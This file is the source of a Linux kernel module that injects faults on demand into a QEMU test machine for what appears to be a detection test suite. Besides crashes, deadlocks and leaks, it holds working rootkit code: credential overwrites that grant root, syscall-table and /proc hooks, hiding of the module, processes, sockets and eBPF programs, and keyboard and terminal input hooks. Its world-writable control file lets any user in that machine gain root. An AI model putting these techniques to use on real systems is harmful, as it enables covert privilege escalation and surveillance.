// SPDX-License-Identifier: GPL-2.0
/*
 * bdfault: faults on demand, for a virtual machine of the fault suite and for nothing else.
 *
 * It refuses to load without the suite's marker, a file of QEMU's fw_cfg device (docs/specs/fw_cfg of QEMU).
 * Write the name of a fault to /proc/bdfault; reading it lists them. Each fault does one thing that goes wrong in real
 * drivers, or that rootkits do. Some can be taken back by writing "NAME off".
 */
#include <linux/anon_inodes.h>
#include <linux/bpf.h>
#include <linux/clocksource.h>
#include <linux/completion.h>
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/file.h>
#include <linux/filter.h>
#include <linux/ftrace.h>
#include <linux/fs.h>
#include <linux/idr.h>
#include <linux/init.h>
#include <linux/input.h>
#include <linux/interrupt.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/irq_work.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/list.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/proc_fs.h>
#include <linux/rcupdate.h>
#include <linux/rculist.h>
#include <linux/rtnetlink.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/skbuff.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <linux/spinlock.h>
#include <linux/string.h>
#include <linux/timer.h>
#include <linux/tracepoint.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <linux/uaccess.h>
#include <linux/version.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <asm/tsc.h>
#include <net/net_namespace.h>
#include <net/sock.h>
#include <net/tcp_states.h>

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 2, 0)
#define timer_delete_sync del_timer_sync
#endif

#define MARKER "opt/backdoor/faults"

static DEFINE_SPINLOCK(lock_a);
static DEFINE_MUTEX(mutex_a);
static DEFINE_MUTEX(mutex_b);
static DECLARE_COMPLETION(never);
static bool hog_ends;
static void poke(unsigned long *entry, unsigned long value);
static unsigned long find(const char *name);
static struct workqueue_struct *wq;
static struct kmem_cache *leaks;
#define FREED_SIZE 192
static struct kmem_cache *freed; /* merged with no other */

static noinline void forever(void)
{
	for (;;)
		cpu_relax();
}

/* Interrupts off on the CPU that writes. */
static void irqs_off(void)
{
	local_irq_disable();
	forever();
}

static void irqs_off_ipi(void *unused)
{
	forever(); /* in the interrupt of the call: on that CPU nothing comes through any more */
}

static void irqs_off_all(void)
{
	smp_call_function(irqs_off_ipi, NULL, 0);
	irqs_off();
}

/* A lock that is taken twice by its own holder. */
static void spin_deadlock(void)
{
	unsigned long flags;

	spin_lock_irqsave(&lock_a, flags);
	spin_lock(&lock_a);
}

static void soft_lockup(void)
{
	preempt_disable();
	forever();
}

static int take_b_then_a(void *unused)
{
	mutex_lock(&mutex_b);
	msleep(200);
	mutex_lock(&mutex_a);
	return 0;
}

static int take_a_then_b(void *unused)
{
	mutex_lock(&mutex_a);
	msleep(200);
	mutex_lock(&mutex_b);
	return 0;
}

/* Two threads, two mutexes, the wrong way round. */
static void mutex_deadlock(void)
{
	kthread_run(take_a_then_b, NULL, "bdfault-ab");
	kthread_run(take_b_then_a, NULL, "bdfault-ba");
}

static int leave_rtnl(void *unused)
{
	get_task_struct(current); /* the next task must not get its place, and look like the holder */
	rtnl_lock();
	return 0; /* and never gives it back */
}

static void leaked_rtnl(void)
{
	kthread_run(leave_rtnl, NULL, "bdfault-rtnl");
}

/* Whoever waits for it gets on. */
static void leaked_rtnl_off(void)
{
	rtnl_unlock();
}

/* A wait for what never comes, with nobody to blame. */
static void d_state(void)
{
	wait_for_completion(&never);
}

static void null_write(void)
{
	*(volatile int *)8 = 1;
}

static void null_jump(void)
{
	void (*volatile f)(void) = NULL;

	f();
}

static int oops_thread(void *unused)
{
	null_write();
	return 0;
}

/* In a thread of its own, which dies of it; the machine goes on. */
static void oops(void)
{
	kthread_run(oops_thread, NULL, "bdfault-oops");
}

static int jump_thread(void *unused)
{
	null_jump();
	return 0;
}

static void oops_jump(void)
{
	kthread_run(jump_thread, NULL, "bdfault-jump");
}

static void oops_in_irq(struct irq_work *work)
{
	null_write();
}

static struct irq_work irq_oops_work;

static void irq_oops(void)
{
	init_irq_work(&irq_oops_work, oops_in_irq);
	irq_work_queue(&irq_oops_work);
}

#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Winfinite-recursion"
static noinline int eat_stack(volatile int depth)
{
	volatile char room[512];

	room[0] = depth;
	return room[0] + eat_stack(depth + 1) + room[0];
}
#pragma GCC diagnostic pop

static int overflow_thread(void *unused)
{
	return eat_stack(0);
}

static void stack_overflow(void)
{
	kthread_run(overflow_thread, NULL, "bdfault-stack");
}

/* CONFIG_DEBUG_LIST, where the kernel has it, speaks of it, and CONFIG_BUG_ON_DATA_CORRUPTION ends the thread. */
static int corrupt_list(void *unused)
{
	static struct list_head one;
	LIST_HEAD(head);

	list_add(&one, &head);
	WRITE_ONCE(one.prev, NULL);
	list_del(&one);
	return 0;
}

static void list_corruption(void)
{
	kthread_run(corrupt_list, NULL, "bdfault-list");
}

/*
 * What is free is written to, and with it the cache's chain of what is free: whoever takes from there next meets nonsense. So many that they do
 * not all fit into the sheaf in which later kernels keep some for each CPU, without a chain.
 */
static int use_freed(void *unused)
{
	static void *all[1024];
	int i;

	for (i = 0; i < ARRAY_SIZE(all); i++)
		all[i] = kmem_cache_alloc(freed, GFP_KERNEL);
	for (i = 0; i < ARRAY_SIZE(all); i++)
		if (all[i])
			kmem_cache_free(freed, all[i]);
	for (i = 0; i < ARRAY_SIZE(all); i++)
		if (all[i])
			memset(all[i], 0x5a, FREED_SIZE);
	for (i = 0; i < ARRAY_SIZE(all); i++)
		all[i] = kmem_cache_alloc(freed, GFP_KERNEL);
	return 0;
}

static void use_after_free(void)
{
	kthread_run(use_freed, NULL, "bdfault-uaf");
}

static int rcu_thread(void *unused)
{
	rcu_read_lock();
	preempt_disable();
	while (!kthread_should_stop())
		cpu_relax();
	return 0;
}

static void rcu_stall(void)
{
	kthread_run(rcu_thread, NULL, "bdfault-rcu");
}

static void stuck(struct work_struct *work)
{
	msleep(3600 * 1000);
}

static DECLARE_WORK(stuck_work, stuck);
static DECLARE_WORK(waiting_work, stuck);

static void wq_stall(void)
{
	queue_work(wq, &stuck_work);
	queue_work(wq, &waiting_work);
}

/* A work that computes for ever and lets others run, but not the works behind it: those of its pool of workers wait. */
static void hog_work(struct work_struct *work)
{
	while (!READ_ONCE(hog_ends))
		cond_resched();
}

static DECLARE_WORK(hog, hog_work);

static void wq_hog(void)
{
	WRITE_ONCE(hog_ends, false);
	queue_work_on(0, system_wq, &hog);
}

static void wq_hog_off(void)
{
	WRITE_ONCE(hog_ends, true);
}

static void warn(void)
{
	WARN(1, "bdfault: a warning on demand\n");
}

/* Leaks: each so much every tenth of a second, until they are switched off, when all is given back. */
static struct timer_list leak_timer;
static void *leaked; /* each begins with a pointer to the one before */

static void leak(struct timer_list *t)
{
	int i;

	for (i = 0; i < 256; i++) {
		void **o = kmem_cache_alloc(leaks, GFP_ATOMIC | __GFP_NOWARN);

		if (!o)
			break;
		*o = leaked;
		leaked = o;
	}
	mod_timer(&leak_timer, jiffies + HZ / 10);
}

static void slab_leak(void)
{
	timer_setup(&leak_timer, leak, 0);
	mod_timer(&leak_timer, jiffies + 1);
}

static void slab_leak_off(void)
{
	timer_delete_sync(&leak_timer);
	while (leaked) {
		void *next = *(void **)leaked;

		kmem_cache_free(leaks, leaked);
		leaked = next;
	}
}

static struct timer_list skb_timer;
static struct sk_buff_head skbs;

static void leak_skbs(struct timer_list *t)
{
	int i;

	for (i = 0; i < 128; i++) {
		struct sk_buff *skb = alloc_skb(1500, GFP_ATOMIC | __GFP_NOWARN);

		if (!skb)
			break;
		skb_queue_tail(&skbs, skb);
	}
	mod_timer(&skb_timer, jiffies + HZ / 10);
}

static void skb_leak(void)
{
	skb_queue_head_init(&skbs);
	timer_setup(&skb_timer, leak_skbs, 0);
	mod_timer(&skb_timer, jiffies + 1);
}

static void skb_leak_off(void)
{
	timer_delete_sync(&skb_timer);
	skb_queue_purge(&skbs);
}

static const struct file_operations no_ops = { .owner = THIS_MODULE };

#define MAX_FILES (1 << 20)
static struct file **files;
static int nfiles;
static void leak_files(struct work_struct *work);
static DECLARE_DELAYED_WORK(files_work, leak_files);

static void leak_files(struct work_struct *work)
{
	int i;

	for (i = 0; i < 64 && nfiles < MAX_FILES; i++) {
		struct file *f = anon_inode_getfile("[leak]", &no_ops, NULL, O_RDONLY);

		if (IS_ERR(f))
			break;
		files[nfiles++] = f;
	}
	schedule_delayed_work(&files_work, HZ / 10);
}

static void fd_leak(void)
{
	if (!files)
		files = vmalloc(MAX_FILES * sizeof(*files));
	if (files)
		schedule_delayed_work(&files_work, 1);
}

static void fd_leak_off(void)
{
	cancel_delayed_work_sync(&files_work);
	while (nfiles)
		fput(files[--nfiles]);
}

/* A softirq that raises itself again and again: ksoftirqd has nothing else to do. */
static bool storm_ends;
static void blow(struct tasklet_struct *t);
static DECLARE_TASKLET(storm, blow);

static void blow(struct tasklet_struct *t)
{
	if (!READ_ONCE(storm_ends))
		tasklet_schedule(&storm);
}

static void softirq_storm(void)
{
	WRITE_ONCE(storm_ends, false);
	tasklet_schedule(&storm);
}

static void softirq_storm_off(void)
{
	WRITE_ONCE(storm_ends, true);
}

/* A clock of which the kernel thinks better than of any other, that stands or jumps. */
static u64 clock_stands_at, clock_offset;

static u64 read_clock(struct clocksource *cs)
{
	u64 at = READ_ONCE(clock_stands_at);

	return at ? at : get_cycles() + READ_ONCE(clock_offset);
}

static struct clocksource bad_clock = {
	.name = "bdfault", .rating = 5000, .read = read_clock, .mask = CLOCKSOURCE_MASK(64),
	.flags = CLOCK_SOURCE_IS_CONTINUOUS | CLOCK_SOURCE_VALID_FOR_HRES,
};

static bool bad_clock_runs;

static void use_bad_clock(void)
{
	if (!bad_clock_runs && !clocksource_register_khz(&bad_clock, tsc_khz))
		bad_clock_runs = true;
	msleep(1500);
}

static void clock_jumps(void)
{
	use_bad_clock();
	WRITE_ONCE(clock_offset, (u64)tsc_khz * 1000 * 60);
}

static void clock_stands(void)
{
	use_bad_clock();
	WRITE_ONCE(clock_stands_at, get_cycles() + READ_ONCE(clock_offset));
}

/* A stray pointer, of a device say, since past the kernel's page tables, into constants that nobody needs at the moment. */
static void wild_write(void)
{
	char *at = (char *)find("linux_proc_banner");
	int i;

	for (i = 0; at && i < 8; i++) {
		/* at its end the string has what is no pointer; poke wants them aligned */
		unsigned long *word = (unsigned long *)ALIGN((unsigned long)at, 8) + i;

		poke(word, 0x5a5a5a5a5a5a5a5aUL);
	}
}

/* The writer gets uid 0 without any of the ways there are to it: its credentials are overwritten in place. */
static void root_cred(void)
{
	struct cred *c = (struct cred *)current->cred;

	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
}

/* As exploits do: the writer gets new credentials that are in order, or those of another process, of all of the kernel itself. */
static void give_root(void)
{
	struct cred *c = prepare_kernel_cred(&init_task);

	if (c)
		commit_creds(c);
}

static void share_cred(void)
{
	const struct cred *c = get_task_cred(&init_task);

	rcu_assign_pointer(current->real_cred, get_cred(c));
	rcu_assign_pointer(current->cred, c);
}

/* The demonstration rootkit: hides its module from lsmod, and the writer from ps. */
static struct list_head *module_prev;

static void hide_module(void)
{
	module_prev = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
}

static void hide_module_off(void)
{
	if (module_prev)
		list_add_rcu(&THIS_MODULE->list, module_prev);
	module_prev = NULL;
}

static struct task_struct *hidden;

static void hide_task(void)
{
	hidden = current->group_leader;
	list_del_rcu(&hidden->tasks); /* /proc, which goes by PIDs, still shows it */
}

static void hide_task_off(void)
{
	if (hidden)
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	hidden = NULL;
}

/*
 * The rootkit's hook: an entry of the table of system calls leads into the module. Its page is read-only, so another mapping
 * of it is written. sys_call_table is not exported; what is looks for it as rootkits do, through a kprobe.
 */
static unsigned long *syscalls;
static unsigned long was;
static atomic_t calls; /* of either hook */

static asmlinkage long hook(const struct pt_regs *regs)
{
	atomic_inc(&calls);
	return ((long (*)(const struct pt_regs *))was)(regs);
}

static void poke(unsigned long *entry, unsigned long value)
{
	struct page *page = is_vmalloc_addr(entry) ? vmalloc_to_page(entry) : virt_to_page(lm_alias(entry));
	void *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!map)
		return;
	*(unsigned long *)(map + offset_in_page(entry)) = value;
	vunmap(map);
}

static unsigned long find(const char *name)
{
	unsigned long (*lookup)(const char *name);
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

	if (register_kprobe(&probe))
		return 0;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return lookup(name);
}

static void hook_syscall(void)
{
	syscalls = (unsigned long *)find("sys_call_table");
	if (!syscalls)
		return;
	was = syscalls[62];
	poke(&syscalls[62], (unsigned long)hook); /* kill(2) */
}

static void hook_syscall_off(void)
{
	if (syscalls)
		poke(&syscalls[62], was);
	syscalls = NULL;
}

/* The rootkit's other hook: what lists /proc goes through the module, as where processes are hidden from ps(1). */
static struct file_operations *proc_root;
static int (*list_proc)(struct file *file, struct dir_context *ctx);

static int hook_list(struct file *file, struct dir_context *ctx)
{
	atomic_inc(&calls);
	return list_proc(file, ctx);
}

static void hook_fops(void)
{
	proc_root = (struct file_operations *)find("proc_root_operations");
	if (!proc_root)
		return;
	list_proc = proc_root->iterate_shared;
	poke((unsigned long *)&proc_root->iterate_shared, (unsigned long)hook_list);
}

static void hook_fops_off(void)
{
	if (proc_root)
		poke((unsigned long *)&proc_root->iterate_shared, (unsigned long)list_proc);
	proc_root = NULL;
}

/* What shows the sockets of TCP in /proc/net/tcp goes through the module, and leaves out those that listen. */
static struct seq_operations *tcp_seq;
static int (*show_tcp)(struct seq_file *seq, void *v);

static int hide_listeners(struct seq_file *seq, void *v)
{
	atomic_inc(&calls);
	if (v != SEQ_START_TOKEN && ((struct sock *)v)->sk_state == TCP_LISTEN)
		return 0;
	return show_tcp(seq, v);
}

static void hide_socket(void)
{
	tcp_seq = (struct seq_operations *)find("tcp4_seq_ops");
	if (!tcp_seq)
		return;
	show_tcp = tcp_seq->show;
	poke((unsigned long *)&tcp_seq->show, (unsigned long)hide_listeners);
}

static void hide_socket_off(void)
{
	if (tcp_seq)
		poke((unsigned long *)&tcp_seq->show, (unsigned long)show_tcp);
	tcp_seq = NULL;
}

/*
 * The rootkit's third way: a kprobe whose handler is in a module that no list shows. What lists a directory does not come to a name that begins as
 * this module's: the probed function, filldir64(ctx, name, ...), is left at once, and seems to have done its work.
 */
asm(".pushsection .text\n.type bdfault_leave, @function\nbdfault_leave:\n\tret\n\tint3\n.size bdfault_leave, .-bdfault_leave\n.popsection\n");
extern void bdfault_leave(void);

static int hide_name(struct kprobe *p, struct pt_regs *regs)
{
	atomic_inc(&calls);
	if (strncmp((const char *)regs->si, "bdfault", 7))
		return 0;
	regs->ax = true;
	regs->ip = (unsigned long)bdfault_leave;
	return 1;
}

static struct kprobe spy = { .symbol_name = "filldir64", .pre_handler = hide_name };
static bool spies;

static void probe(void)
{
	spies = !register_kprobe(&spy);
	hide_module();
}

static void probe_off(void)
{
	hide_module_off();
	if (spies)
		unregister_kprobe(&spy);
	spies = false;
	memset(&spy, 0, sizeof(spy));
	spy.symbol_name = "filldir64";
	spy.pre_handler = hide_name;
}

/* Its other ways to be called, all from a module that no list shows: when modules come and go, when packets leave, when a task gets another name. */
static int hear(struct notifier_block *nb, unsigned long event, void *data)
{
	atomic_inc(&calls);
	return NOTIFY_DONE;
}

static struct notifier_block listener = { .notifier_call = hear };
static bool listens;

static void notifier(void)
{
	listens = !register_module_notifier(&listener);
	hide_module();
}

static void notifier_off(void)
{
	hide_module_off();
	if (listens)
		unregister_module_notifier(&listener);
	listens = false;
	listener.notifier_call = hear;
}

static unsigned int see_packet(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	atomic_inc(&calls);
	return NF_ACCEPT;
}

static struct nf_hook_ops filter;
static bool filters;

static void filter_packets(struct nf_hook_ops ops)
{
	filter = ops;
	filters = !nf_register_net_hook(&init_net, &filter);
	hide_module();
}

static void packet_filter(void)
{
	filter_packets((struct nf_hook_ops){ .hook = see_packet, .pf = NFPROTO_IPV4, .hooknum = NF_INET_LOCAL_OUT });
}

static void interface_filter(void)
{
	filter_packets((struct nf_hook_ops){ .hook = see_packet, .pf = NFPROTO_NETDEV, .hooknum = NF_NETDEV_INGRESS, .dev = init_net.loopback_dev });
}

static void filter_off(void)
{
	hide_module_off();
	if (filters)
		nf_unregister_net_hook(&init_net, &filter);
	filters = false;
}

static struct tracepoint *task_rename;

static void see_rename(void *data, struct task_struct *task, const char *comm)
{
	atomic_inc(&calls);
}

static void is_task_rename(struct tracepoint *tp, void *priv)
{
	if (!strcmp(tp->name, "task_rename"))
		*(struct tracepoint **)priv = tp;
}

static void tracepoint(void)
{
	for_each_kernel_tracepoint(is_task_rename, &task_rename);
	if (task_rename && tracepoint_probe_register(task_rename, see_rename, NULL))
		task_rename = NULL;
	hide_module();
}

static void tracepoint_off(void)
{
	hide_module_off();
	if (task_rename)
		tracepoint_probe_unregister(task_rename, see_rename, NULL);
	task_rename = NULL;
	tracepoint_synchronize_unregister();
}

/* It reads keys: by what the console has called for each, or as a handler of its own. */
static struct input_handler *keyboard;
static void (*key_event)(struct input_handle *handle, unsigned int type, unsigned int code, int value);

static void see_event(struct input_handle *handle, unsigned int type, unsigned int code, int value)
{
	atomic_inc(&calls);
	if (handle->handler == keyboard)
		key_event(handle, type, code, value);
}

static void input_handler(void)
{
	keyboard = (struct input_handler *)find("kbd_handler");
	if (!keyboard)
		return;
	key_event = keyboard->event;
	poke((unsigned long *)&keyboard->event, (unsigned long)see_event);
	hide_module();
}

static void input_handler_off(void)
{
	hide_module_off();
	if (keyboard)
		poke((unsigned long *)&keyboard->event, (unsigned long)key_event);
	synchronize_rcu();
	keyboard = NULL;
}

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 11, 0)
/* Since then a handler has a function with each device that it hears. */
static unsigned int (*key_events)(struct input_handle *handle, struct input_value *vals, unsigned int count);

static unsigned int see_events(struct input_handle *handle, struct input_value *vals, unsigned int count)
{
	atomic_inc(&calls);
	return key_events(handle, vals, count);
}

static void lead_devices(typeof(key_events) to)
{
	struct input_handle *handle;

	list_for_each_entry(handle, &keyboard->h_list, h_node)
		WRITE_ONCE(handle->handle_events, to);
}

static void input_device(void)
{
	keyboard = (struct input_handler *)find("kbd_handler");
	if (!keyboard || list_empty(&keyboard->h_list))
		return;
	key_events = list_first_entry(&keyboard->h_list, struct input_handle, h_node)->handle_events;
	lead_devices(see_events);
	hide_module();
}

static void input_device_off(void)
{
	hide_module_off();
	if (!keyboard)
		return;
	lead_devices(key_events);
	synchronize_rcu();
	keyboard = NULL;
}
#endif

static int listen_to(struct input_handler *handler, struct input_dev *dev, const struct input_device_id *id)
{
	struct input_handle *handle = kzalloc(sizeof(*handle), GFP_KERNEL);

	if (!handle)
		return -ENOMEM;
	handle->dev = dev;
	handle->handler = handler;
	handle->name = "bdfault";
	if (input_register_handle(handle)) {
		kfree(handle);
		return -ENODEV;
	}
	return input_open_device(handle);
}

static void leave(struct input_handle *handle)
{
	input_close_device(handle);
	input_unregister_handle(handle);
	kfree(handle);
}

static const struct input_device_id keyboards[] = {
	{ .flags = INPUT_DEVICE_ID_MATCH_EVBIT, .evbit = { BIT_MASK(EV_KEY) } },
	{ }
};

static struct input_handler listener_of_keys = {
	.name = "bdfault", .event = see_event, .connect = listen_to, .disconnect = leave, .id_table = keyboards,
};

static void key_listener(void)
{
	if (input_register_handler(&listener_of_keys))
		return;
	hide_module();
}

static void key_listener_off(void)
{
	hide_module_off();
	input_unregister_handler(&listener_of_keys); /* which does nothing the second time */
}

/* The same, and it takes itself off the kernel's list of handlers, which its devices do not look at. */
static bool listener_unlisted;

static void hidden_listener(void)
{
	if (input_register_handler(&listener_of_keys))
		return;
	list_del_init(&listener_of_keys.node);
	listener_unlisted = true;
	hide_module();
}

static void hidden_listener_off(void)
{
	struct list_head *handlers = (struct list_head *)find("input_handler_list");

	hide_module_off();
	if (!listener_unlisted || !handlers)
		return;
	list_add_tail(&listener_of_keys.node, handlers);
	listener_unlisted = false;
	input_unregister_handler(&listener_of_keys);
}

/* It reads what comes over terminals. */
static struct tty_ldisc_ops *terminal;
static unsigned long receive;

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 6, 0)
static int see_line(struct tty_struct *tty, const unsigned char *cp, const char *fp, int count)
#else
static size_t see_line(struct tty_struct *tty, const u8 *cp, const u8 *fp, size_t count)
#endif
{
	atomic_inc(&calls);
	return ((typeof(&see_line))receive)(tty, cp, fp, count);
}

static void line_discipline(void)
{
	terminal = (struct tty_ldisc_ops *)find("n_tty_ops");
	if (!terminal)
		return;
	receive = (unsigned long)terminal->receive_buf2;
	poke((unsigned long *)&terminal->receive_buf2, (unsigned long)see_line);
	hide_module();
}

static void line_discipline_off(void)
{
	hide_module_off();
	if (terminal)
		poke((unsigned long *)&terminal->receive_buf2, receive);
	terminal = NULL;
}

/* It takes an eBPF program from the sight of who asks for all, or has something else run in its place. */
static struct idr *programs;
static struct bpf_prog *quiet;
static int quiet_id;
static unsigned long quiet_func;

static void find_quiet(void)
{
	struct bpf_prog *prog;
	int id;

	quiet = NULL;
	programs = (struct idr *)find("prog_idr");
	if (!programs)
		return;
	idr_for_each_entry(programs, prog, id) {
		if (!strcmp(prog->aux->name, "quiet")) {
			quiet = prog;
			quiet_id = id;
		}
	}
}

static void hide_bpf(void)
{
	find_quiet();
	if (quiet)
		idr_remove(programs, quiet_id);
}

static void hide_bpf_off(void)
{
	if (quiet)
		idr_alloc(programs, quiet, quiet_id, quiet_id + 1, GFP_KERNEL);
	quiet = NULL;
}

static unsigned int see_run(const void *ctx, const struct bpf_insn *insn)
{
	atomic_inc(&calls);
	return ~0;
}

static void hook_bpf(void)
{
	find_quiet();
	if (!quiet)
		return;
	quiet_func = (unsigned long)quiet->bpf_func;
	poke((unsigned long *)&quiet->bpf_func, (unsigned long)see_run);
	hide_module();
}

static void hook_bpf_off(void)
{
	hide_module_off();
	if (quiet)
		poke((unsigned long *)&quiet->bpf_func, quiet_func);
	quiet = NULL;
}

/* The same at a tracepoint of a module's, which is not among those of the kernel. */
static struct tracepoint *watchdog_start;

static void see_start(void *data, void *wdd, int err)
{
	atomic_inc(&calls);
}

static int is_watchdog_start(struct notifier_block *nb, unsigned long event, void *data)
{
	struct module *mod = ((struct tp_module *)data)->mod;
	int i;

	for (i = 0; event == MODULE_STATE_COMING && i < mod->num_tracepoints; i++) {
		struct tracepoint *tp = tracepoint_ptr_deref(&mod->tracepoints_ptrs[i]);

		if (!strcmp(tp->name, "watchdog_start"))
			watchdog_start = tp;
	}
	return NOTIFY_OK;
}

static void module_tracepoint(void)
{
	struct notifier_block nb = { .notifier_call = is_watchdog_start };

	if (!register_tracepoint_module_notifier(&nb)) /* tells of all that there are */
		unregister_tracepoint_module_notifier(&nb);
	if (watchdog_start && tracepoint_probe_register(watchdog_start, see_start, NULL))
		watchdog_start = NULL;
	hide_module();
}

static void module_tracepoint_off(void)
{
	hide_module_off();
	if (watchdog_start)
		tracepoint_probe_unregister(watchdog_start, see_start, NULL);
	watchdog_start = NULL;
	tracepoint_synchronize_unregister();
}

/* As do most rootkits of these days: by a call that ftrace makes at the entry of a function. */
static void see_entry(unsigned long ip, unsigned long parent, struct ftrace_ops *op, struct ftrace_regs *regs)
{
	atomic_inc(&calls);
}

static struct ftrace_ops tracer = { .func = see_entry };

static void trace_function(void)
{
	unsigned long ip = find("filldir64");

	/* An entry that begins with endbr64 has its call behind that. */
	if (ip && ftrace_set_filter_ip(&tracer, ip, 0, 1))
		ip = ftrace_set_filter_ip(&tracer, ip + 4, 0, 1) ? 0 : ip;
	if (ip)
		register_ftrace_function(&tracer);
	hide_module();
}

static void trace_function_off(void)
{
	hide_module_off();
	if (tracer.flags & FTRACE_OPS_FL_ENABLED)
		unregister_ftrace_function(&tracer);
}

static struct fault {
	const char *name;
	void (*on)(void);
	void (*off)(void);
} faults[] = {
	{ "irqs-off", irqs_off },
	{ "irqs-off-all", irqs_off_all },
	{ "spin-deadlock", spin_deadlock },
	{ "soft-lockup", soft_lockup },
	{ "mutex-deadlock", mutex_deadlock },
	{ "leaked-rtnl", leaked_rtnl, leaked_rtnl_off },
	{ "d-state", d_state },
	{ "oops", oops },
	{ "oops-jump", oops_jump },
	{ "oops-irq", irq_oops },
	{ "stack-overflow", stack_overflow },
	{ "list-corruption", list_corruption },
	{ "use-after-free", use_after_free },
	{ "rcu-stall", rcu_stall },
	{ "wq-stall", wq_stall },
	{ "wq-hog", wq_hog, wq_hog_off },
	{ "warn", warn },
	{ "slab-leak", slab_leak, slab_leak_off },
	{ "skb-leak", skb_leak, skb_leak_off },
	{ "fd-leak", fd_leak, fd_leak_off },
	{ "softirq-storm", softirq_storm, softirq_storm_off },
	{ "clock-jumps", clock_jumps },
	{ "clock-stands", clock_stands },
	{ "wild-write", wild_write },
	{ "root-cred", root_cred },
	{ "give-root", give_root },
	{ "share-cred", share_cred },
	{ "hook-syscall", hook_syscall, hook_syscall_off },
	{ "hook-fops", hook_fops, hook_fops_off },
	{ "hide-socket", hide_socket, hide_socket_off },
	{ "hide-module", hide_module, hide_module_off },
	{ "hide-task", hide_task, hide_task_off },
	{ "probe", probe, probe_off },
	{ "notifier", notifier, notifier_off },
	{ "packet-filter", packet_filter, filter_off },
	{ "interface-filter", interface_filter, filter_off },
	{ "input-handler", input_handler, input_handler_off },
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 11, 0)
	{ "input-device", input_device, input_device_off },
#endif
	{ "key-listener", key_listener, key_listener_off },
	{ "hidden-listener", hidden_listener, hidden_listener_off },
	{ "line-discipline", line_discipline, line_discipline_off },
	{ "hide-bpf", hide_bpf, hide_bpf_off },
	{ "hook-bpf", hook_bpf, hook_bpf_off },
	{ "module-tracepoint", module_tracepoint, module_tracepoint_off },
	{ "ftrace", trace_function, trace_function_off },
	{ "tracepoint", tracepoint, tracepoint_off },
};

static ssize_t fault_write(struct file *file, const char __user *from, size_t n, loff_t *pos)
{
	char name[32];
	bool off;
	char *space;
	int i;

	if (n == 0 || n >= sizeof(name))
		return -EINVAL;
	if (copy_from_user(name, from, n))
		return -EFAULT;
	name[n] = 0;
	strim(name);
	space = strchr(name, ' ');
	off = space && !strcmp(space, " off");
	if (off)
		*space = 0;
	for (i = 0; i < ARRAY_SIZE(faults); i++) {
		if (strcmp(name, faults[i].name))
			continue;
		if (!off)
			faults[i].on();
		else if (faults[i].off)
			faults[i].off();
		else
			return -EOPNOTSUPP;
		return n;
	}
	return -ENOENT;
}

/* What is true, for the suite: how often the hooks were called, and whether the list of tasks has the hidden one. */
static ssize_t fault_read(struct file *file, char __user *to, size_t n, loff_t *pos)
{
	char text[1024];
	int i, len, listed = 0;
	struct task_struct *p;

	rcu_read_lock();
	for_each_process(p)
		listed |= p == hidden;
	rcu_read_unlock();
	len = scnprintf(text, sizeof(text), "calls=%d\nlisted=%d\n", atomic_read(&calls), listed);

	for (i = 0; i < ARRAY_SIZE(faults); i++)
		len += scnprintf(text + len, sizeof(text) - len, "%s\n", faults[i].name);
	return simple_read_from_buffer(to, n, pos, text, len);
}

static const struct proc_ops fault_ops = {
	.proc_read = fault_read,
	.proc_write = fault_write,
	.proc_lseek = default_llseek,
};

/* fw_cfg: a key goes to port 0x510, bytes come from port 0x511. */
static void __init fw_read(void *to, int n)
{
	u8 *b = to;

	while (n--)
		*b++ = inb(0x511);
}

static bool __init marked(void)
{
	struct {
		__be32 size;
		__be16 select, reserved;
		char name[56];
	} __packed file;
	__be32 count;
	char sign[4];
	u32 n;

	outw(0, 0x510);
	fw_read(sign, sizeof(sign));
	if (memcmp(sign, "QEMU", 4))
		return false;
	outw(0x19, 0x510); /* the directory */
	fw_read(&count, sizeof(count));
	for (n = min_t(u32, be32_to_cpu(count), 1024); n; n--) {
		fw_read(&file, sizeof(file));
		if (!strncmp(file.name, MARKER, sizeof(file.name)))
			return true;
	}
	return false;
}

static int __init fault_init(void)
{
	if (!marked()) {
		pr_err("bdfault: this is not the fault suite's machine: it has no %s\n", MARKER);
		return -EPERM;
	}
	wq = alloc_ordered_workqueue("bdfault", 0);
	leaks = kmem_cache_create("bdfault-leak", 1024, 0, SLAB_ACCOUNT, NULL);
	freed = kmem_cache_create_usercopy("bdfault-freed", FREED_SIZE, 0, 0, 0, FREED_SIZE, NULL);
	if (!wq || !leaks || !freed || !proc_create("bdfault", 0666, NULL, &fault_ops))
		return -ENOMEM;
	return 0;
}

module_init(fault_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("faults on demand for the fault suite of Backdoor");
